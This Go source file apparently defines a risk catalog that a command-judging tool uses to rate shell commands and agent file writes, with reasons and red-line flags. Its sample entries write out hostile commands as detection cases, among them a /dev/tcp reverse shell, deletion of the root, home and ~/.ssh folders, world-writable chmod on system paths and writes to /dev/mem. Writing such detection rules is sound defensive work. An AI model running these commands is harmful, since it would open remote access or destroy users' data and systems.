package rules

import "encoding/json"

// Catalog: files. Generated once from the corpora and then kept by hand;
// see catalog.go for what an entry promises.

var _ = declare("app/judge/rules/bash.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.<name>", Risk: 3, RedLine: true, Category: "files", Reason: "rm * removes every file in the working folder",
			Examples: []Example{{Command: "rm *"}, {Command: "chattr +i file"}, {Command: "cp x /dev/null"}, {Command: "chmod -R 777 /usr/local"}}},
		Entry{ID: "fs.mkdir", Risk: 0, Category: "files", Reason: "mkdir creates files or folders",
			Examples: []Example{{Command: "mkdir build"}}},
		Entry{ID: "fs.touch", Risk: 0, Category: "files", Reason: "touch creates files or folders",
			Examples: []Example{{Command: "touch src/new.go"}}},
	}
})

var _ = declare("app/judge/rules/packs/everyday/everyday.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.tar-absolute", Risk: 2, Category: "files", Reason: "extracts with absolute paths (can overwrite system files)",
			Examples: []Example{{Command: "tar --absolute-names --extract"}}},
	}
})

var _ = declare("app/judge/rules/fs.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.write-unknown", Risk: 1, Category: "files", Reason: "<verb> writes to a file that is not named",
			Examples: []Example{{Command: "set-content"}}},
		Entry{ID: "fs.delete-all-files", Risk: 2, Category: "files", Reason: "<verb> <shown> removes every file in the working folder",
			Examples: []Example{{Command: "rm *"}}},
		Entry{ID: "fs.delete-backup", Risk: 3, RedLine: true, Category: "files", Reason: "<verb> <shown>: deleting backups is a red line",
			Examples: []Example{{Command: "rm dump.sql.bak"}, {Command: "rm -rf backups/"}}},
		Entry{ID: "fs.delete-cwd", Risk: 2, Category: "files", Reason: "<verb> <shown> deletes the whole working folder, not just build output",
			Examples: []Example{{Command: "rm -rf *"}}},
		Entry{ID: "fs.delete-dotdot", Risk: 2, Category: "files", Reason: "a delete whose path leaves the project through \"..\"",
			Examples: []Example{{Command: "find /tmp/x/../other -delete"}}},
		Entry{ID: "fs.delete-dynamic", Risk: 2, Category: "files", Reason: "<verb> <shown>: the target is only known at run time (an empty variable can mean / or ~)",
			Examples: []Example{{Command: "rm -f \"$f\""}}},
		Entry{ID: "fs.delete-git", Risk: 3, Category: "files", Reason: "<verb> <shown> removes part of the repository's history or state",
			Examples: []Example{{Command: "rm -rf .git"}}},
		Entry{ID: "fs.delete-home", Risk: 3, RedLine: true, Category: "files", Reason: "<verb> <shown> removes files at the top of the home folder",
			Examples: []Example{{Command: "git config alias.x '!rm -rf ~'"}}},
		Entry{ID: "fs.delete-nothing", Risk: 0, Category: "files", Reason: "gio with no file names",
			Examples: []Example{{Command: "gio"}}},
		Entry{ID: "fs.delete-outside", Risk: 2, Category: "files", Reason: "deletes in a folder outside the project",
			Examples: []Example{{Command: "rsync -a --delete ./ host:proj/"}}},
		Entry{ID: "fs.delete-project", Risk: 1, Category: "files", Reason: "deletes a path inside the project",
			Examples: []Example{{Command: "mv x /dev/null"}}},
		Entry{ID: "fs.delete-software", Risk: 2, Category: "files", Reason: "deletes installed software or a system cache outside the project",
			Examples: []Example{{Command: "sudo rm -rf /opt/myapp"}}},
		Entry{ID: "fs.delete-system", Risk: 3, RedLine: true, Category: "files", Reason: "deletes in a system folder; the system would stop working",
			Examples: []Example{{Command: "rsync -a --delete ./ host:/srv/"}}},
		Entry{ID: "fs.delete-user-data", Risk: 3, RedLine: true, Category: "files", Reason: "deletes the user's own data in the home folder (keys, documents or settings): not recoverable",
			Examples: []Example{{Command: "rm -rf ~/.ssh"}}},
		Entry{ID: "fs.find", Risk: 0, Category: "files", Reason: "find lists files",
			Examples: []Example{{Command: "find . -exec echo {} \\;"}}},
		Entry{ID: "fs.find-delete", Risk: 1, Category: "files", Reason: "find deletes matching files inside the project",
			Examples: []Example{{Command: "find . -name x -exec rm {} +"}}},
		Entry{ID: "fs.find-exec", Risk: 1, Category: "files", Reason: "runs a program on what find selects",
			Examples: []Example{{Command: `find . -name "*.tmp" -exec trash {} +`}}},
		Entry{ID: "fs.move", Risk: 1, Category: "files", Reason: "mv dist/ (recoverable)",
			Examples: []Example{{Command: "mv dist/ build/"}}},
		Entry{ID: "fs.rm-root", Risk: 3, RedLine: true, Category: "files", Reason: "rm /: the root of the file system; everything on the machine would be lost",
			Examples: []Example{{Command: "rm -r /"}}},
		Entry{ID: "fs.rmdir", Risk: 1, Category: "files", Reason: "rmdir removes only empty folders",
			Examples: []Example{{Command: "rmdir emptydir"}}},
		Entry{ID: "fs.rsync", Risk: 1, Category: "files", Reason: "rsync",
			Examples: []Example{{Command: "rsync"}}},
		Entry{ID: "fs.rsync-dry-run", Risk: 0, Category: "files", Reason: "rsync with --dry-run, --list-only or --help changes nothing",
			Examples: []Example{{Command: "rsync -avn --delete ./ host:/srv/app/"}}},
		Entry{ID: "fs.rsync-remote", Risk: 1, Category: "files", Reason: "rsync to an rsync daemon's module: a copy that leaves the machine",
			Examples: []Example{{Command: "rsync -a ./dist rsync://host/module/"}}},
		Entry{ID: "fs.rsync-remote-delete", Risk: 2, Category: "files", Reason: "rsync --delete to an rsync daemon's module deletes whatever the remote folder has that the source lacks",
			Examples: []Example{{Command: "rsync -a --delete ./ rsync://host/module/"}}},
		Entry{ID: "fs.shred", Risk: 2, Category: "files", Reason: "<verb> <shown>: overwritten beyond recovery",
			Examples: []Example{{Command: "shred -u secret.txt"}}},
		Entry{ID: "fs.tee", Risk: 0, Category: "files", Reason: "tee to the screen",
			Examples: []Example{{Command: "tee"}}},
		Entry{ID: "fs.truncate", Risk: 1, Category: "files", Reason: "truncate without a file",
			Examples: []Example{{Command: "truncate"}}},
		Entry{ID: "fs.write-dynamic", Risk: 1, Category: "files", Reason: "<verb> writes to a file only known at run time",
			Examples: []Example{{Command: "echo hi > \"$OUT\""}}},
		Entry{ID: "fs.write-fd", Risk: 0, Category: "files", Reason: "writes to a file descriptor",
			Examples: []Example{{Command: "cp x /dev/fd/3"}}},
		Entry{ID: "fs.write-null", Risk: 0, Category: "files", Reason: "writes to /dev/null (discards output)",
			Examples: []Example{{Command: "cp x /dev/null"}}},
	}
})

var _ = declare("app/judge/rules/fsperms.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.chattr-immutable", Risk: 2, Category: "files", Reason: "chattr <mode> changes the immutable flag of <shown>",
			Examples: []Example{{Command: "chattr +i file"}}},
		Entry{ID: "fs.perms", Risk: 1, Category: "files", Reason: "setfacl without a file",
			Examples: []Example{{Command: "setfacl"}}},
		Entry{ID: "fs.perms-dynamic", Risk: 2, Category: "files", Reason: "<name> -R on a path only known at run time",
			Examples: []Example{{Command: "chmod -R 777 $DIR"}}},
		Entry{ID: "fs.perms-keys", Risk: 1, Category: "files", Reason: "changes the permissions of a key folder or key file",
			Examples: []Example{{Command: "chmod 600 ~/.ssh/id_rsa"}}},
		Entry{ID: "fs.perms-outside", Risk: 1, Category: "files", Reason: "<name> -R on <shown>: outside the project",
			Examples: []Example{{Command: "chmod : ~/x"}}},
		Entry{ID: "fs.perms-project", Risk: 2, Category: "files", Reason: "<name> -R <mode> on the whole project",
			Examples: []Example{{Command: "chmod -R 777 ."}}},
		Entry{ID: "fs.perms-setuid", Risk: 2, Category: "files", Reason: "chmod <mode> makes <shown> run with its owner's rights (setuid/setgid)",
			Examples: []Example{{Command: "chmod 4755 ./tool"}}},
		Entry{ID: "fs.perms-software", Risk: 2, Category: "files", Reason: "changes the permissions of installed software",
			Examples: []Example{{Command: "chmod 644 /opt/x"}}},
		Entry{ID: "fs.perms-system", Risk: 3, RedLine: true, Category: "files", Reason: "<name> on <shown>: changing system files' permissions or owners can break the system or open it up",
			Examples: []Example{{Command: "chmod -R 777 /usr/local"}}},
		Entry{ID: "fs.perms-top", Risk: 2, Category: "files", Reason: "<name> on <shown> changes who can use the whole folder",
			Examples: []Example{{Command: "chmod a+w /"}}},
		Entry{ID: "fs.perms-tree", Risk: 3, RedLine: true, Category: "files", Reason: "<name> -R on <shown>: changes every file's permissions or owner; hard to undo",
			Examples: []Example{{Command: "find / -exec chmod 777 {} +"}}},
		Entry{ID: "fs.perms-user-data", Risk: 2, Category: "files", Reason: "<name> -R on <shown>",
			Examples: []Example{{Command: "chmod -R 700 ~/Documents"}}},
		Entry{ID: "fs.perms-wide", Risk: 2, Category: "files", Reason: "<name> <mode> -R makes files writable by everyone or readable by no one",
			Examples: []Example{{Command: "chmod -R 777 src"}}},
	}
})

var _ = declare("app/judge/rules/packs/interp/interp.go", func() []Entry {
	return []Entry{
		Entry{ID: "text.awk", Risk: 0, Category: "files", Reason: "awk reads and prints text",
			Examples: []Example{{Command: "awk -F: '{print $1}' /etc/passwd"}}},
		Entry{ID: "text.awk-file", Risk: 1, Category: "files", Reason: "runs an awk program file",
			Examples: []Example{{Command: "awk -f"}}},
		Entry{ID: "text.awk-system", Risk: 2, Category: "files", Reason: "the awk program runs shell commands",
			Examples: []Example{{Command: "awk '{ print | \"sh\" }' x"}}},
		Entry{ID: "text.perl-inplace", Risk: 1, Category: "files", Reason: "perl edits files in place",
			Examples: []Example{{Command: "perl -pi -e 's/old/new/g' src/*.c"}}},
	}
})

var _ = declare("app/judge/rules/paths.go", func() []Entry {
	return []Entry{
		Entry{ID: "path.autostart", Risk: 2, Category: "files", Reason: "adds or edits something that starts automatically at login (<orig>)",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.config/systemd/user/x.service","content":"[Service]"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.ci-workflow", Risk: 0, Category: "files", Reason: "edits a CI workflow file: <p>",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":".github/workflows/ci.yml","content":"on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.credentials", Risk: 2, Category: "files", Reason: "edits a credentials or cloud configuration file (<orig>)",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.docker/config.json","content":"{}"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.crontab", Risk: 2, Category: "files", Reason: "edits a crontab (runs commands on a schedule): <orig>",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"/var/spool/cron/crontabs/dev","content":"* * * * * curl x"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.dev-net", Risk: 2, Category: "files", Reason: "sends data over the network through /dev/tcp or /dev/udp (a common way to leak files)",
			Examples: []Example{{Command: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}}},
		Entry{ID: "path.dev-null", Risk: 0, Category: "files", Reason: "writes to <h>",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"/dev/null","content":""},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.dev-stream", Risk: 0, Category: "files", Reason: "writes to a terminal or stream",
			Examples: []Example{{Command: "tee /dev/shm/x"}}},
		Entry{ID: "path.device", Risk: 3, Category: "files", Reason: "writes to a device file (<orig>)",
			Examples: []Example{{Command: "echo x > /dev/kmsg"}}},
		Entry{ID: "path.disk-device", Risk: 3, RedLine: true, Category: "files", Reason: "writes straight to a disk or memory device (<orig>): this destroys the data on it",
			Examples: []Example{{Command: "echo x > /dev/mem"}}},
		Entry{ID: "path.dynamic", Risk: 2, Category: "files", Reason: "writes to a path that cannot be known before it runs",
			Examples: []Example{{Command: "echo x > $D/out.txt"}, {Command: "cp a.txt $D/x"}}},
		Entry{ID: "path.empty", Risk: 2, Category: "files", Reason: "write without a file path",
			Examples: []Example{{Command: "echo hi > \"\""}}},
		Entry{ID: "path.env", Risk: 2, Category: "files", Reason: "edits an environment file with secrets outside the project (<orig>)",
			Examples: []Example{{Command: "echo x > ~/other/.env"}}},
		Entry{ID: "path.etc", Risk: 2, Category: "files", Reason: "edits system configuration under /etc (<orig>)",
			Examples: []Example{{Command: "scp -r ./dist host:/etc/"}}},
		Entry{ID: "path.git-config", Risk: 2, Category: "files", Reason: "edits git configuration (<orig>): it can set hooks and commands git runs",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.gitconfig","content":"[alias]\n"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.git-hook", Risk: 2, Category: "files", Reason: "edits a git hook (<orig>): it runs on every commit or checkout",
			Examples: []Example{{Command: "echo \"exit 0\" > .git/hooks/pre-commit"}}},
		Entry{ID: "path.gnupg", Risk: 2, Category: "files", Reason: "edits the GnuPG keyring or its settings (<orig>)",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.gnupg/gpg-agent.conf","content":""},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.home", Risk: 1, Category: "files", Reason: "writes a file outside the project, in the home folder: <p>",
			Examples: []Example{{Command: "sed -i s/a/b/ ~/x.txt"}}},
		Entry{ID: "path.outside", Risk: 2, Category: "files", Reason: "writes a file outside the project and the home folder: <p>",
			Examples: []Example{{Command: "Copy-Item .\\dist\\app.zip \\\\fileserver\\releases\\"}}},
		Entry{ID: "path.project", Risk: 1, Category: "files", Reason: "writes a file in the project: <p>",
			Examples: []Example{{Command: "sed -i s/a/b/ x.txt"}}},
		Entry{ID: "path.shell-rc", Risk: 2, Category: "files", Reason: "edits a shell start-up file (<orig>): it runs in every new shell",
			Examples: []Example{{Command: "echo hi > ~/.bash_profile"}}},
		Entry{ID: "path.ssh", Risk: 2, Category: "files", Reason: "edits the SSH configuration (<orig>)",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.ssh/known_hosts","content":""},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.ssh-authorized-keys", Risk: 3, RedLine: true, Category: "files", Reason: "edits SSH authorized_keys: this grants someone login access to the machine",
			Examples: []Example{{Command: "cp mykey.pub ~/.ssh/authorized_keys"}}},
		Entry{ID: "path.ssh-key", Risk: 3, Category: "files", Reason: "overwrites an SSH private key (<orig>): it cannot be recovered",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"~/.ssh/id_ed25519","content":"garbage"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.system", Risk: 3, RedLine: true, Category: "files", Reason: "edits Windows system files (<orig>)",
			Examples: []Example{{Command: "echo x > $env:windir\\x"}}},
		Entry{ID: "path.system-area", Risk: 2, Category: "files", Reason: "writes into a system-wide folder (<orig>)",
			Examples: []Example{{Event: json.RawMessage(`{"tool_name":"Write","tool_input":{"file_path":"/opt/app/config.yml","content":"x"},"cwd":"/home/dev/proj"}`)}}},
		Entry{ID: "path.temp", Risk: 1, Category: "files", Reason: "writes a temporary file: <p>",
			Examples: []Example{{Command: "mv * /tmp/trash/"}}},
	}
})

var _ = declare("app/judge/rules/packs/resources/resources.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.fallocate-holes", Risk: 2, Category: "files", Reason: "cuts data out of a file",
			Examples: []Example{{Command: "fallocate --punch-hole"}}},
	}
})

var _ = declare("app/judge/rules/packs/sysfiles/sysfiles.go", func() []Entry {
	return []Entry{
		Entry{ID: "text.sed", Risk: 0, Category: "files", Reason: "sed prints edited text; no file changes",
			Examples: []Example{{Command: "sed -n '1,20p' main.py"}}},
		Entry{ID: "text.sed-inplace", Risk: 1, Category: "files", Reason: "sed edits files in place",
			Examples: []Example{{Command: "sed -i"}}},
	}
})

var _ = declare("app/judge/rules/packs/sysfiles/sysfiles_win.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.recyclebin", Risk: 3, Category: "files", Reason: "empties the recycle bin: those files cannot be recovered",
			Examples: []Example{{Command: "powershell -c \"Clear-RecycleBin -Force\""}}},
	}
})

var _ = declare("app/judge/rules/fstoolconfig.go", func() []Entry {
	return []Entry{
		Entry{ID: "fs.delete-tool-config", Risk: 2, Category: "files", Reason: "deletes a program's settings file in the home folder (a login, token or the user's own tuning), not recoverable",
			Examples: []Example{{Command: "rm ~/.config/gh/hosts.yml"}}},
	}
})
